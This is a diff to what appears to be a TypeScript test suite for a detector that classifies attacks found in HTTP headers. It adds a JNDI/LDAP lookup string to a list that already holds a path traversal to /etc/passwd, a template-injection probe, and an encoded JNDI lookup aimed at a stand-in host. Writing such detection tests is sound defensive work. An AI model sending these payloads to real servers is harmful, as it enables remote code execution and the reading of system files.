@@ -16,6 +16,7 @@ const attacks = [
   ["path-traversal", { Cookie: "lang=../../../../etc/passwd" }],
   ["template-injection", { Referer: "https://a.example/?x={{7*7}}" }],
   ["jndi-lookup", { UserAgent: "$%7Bjndi:ldap://a.example%7D" }],
+  ["jndi-lookup", { Referer: "jndi:ldap://a.example/b" }],
 ] as const;
 
 test("an attack in a header is found by its family, and its evidence shows that header", async () => {
